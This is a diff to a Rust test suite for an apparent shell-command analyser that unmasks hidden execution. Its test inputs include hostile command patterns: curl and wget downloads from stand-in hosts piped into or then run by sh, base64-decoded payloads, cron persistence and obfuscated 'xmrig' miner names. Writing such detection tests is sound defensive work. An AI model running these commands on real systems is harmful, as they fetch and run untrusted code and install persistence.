@@ -83,7 +83,14 @@ fn shells_are_read() {
     check("echo Li94IC1h | base64 -d | sh", &["sh > ./x -a"]);
     check("base64 -d <<< Li94IC1h | sh", &["sh > ./x -a"]);
     check("(crontab -l; echo './x') | crontab -", &["crontab > ./x"]);
-    check("for i in x y; do ./$i; done", &["./x y"]);
+    check("for i in x y; do ./$i; done", &["./x", "./y"]);
+    check("curl -s http://a/x.sh | sh", &["sh > http://a/x.sh"]);
+    check("sh < x.sh", &["sh > x.sh"]);
+    check("wget -qO a http://h/x; ./a -b", &["a > http://h/x -b"]);
+    check("echo ./x > a; sh a", &["sh > a > ./x"]);
+    check("xm{r,}ig", &["xmrig xmig"]);
+    check("$(echo xgirm | rev)", &["mrigx"]);
+    check("echo '* * * * * root ./x' > /etc/cron.d/a", &["echo > ./x"]);
     check("eval \"./x -a\"", &["eval > ./x -a"]);
 }
 
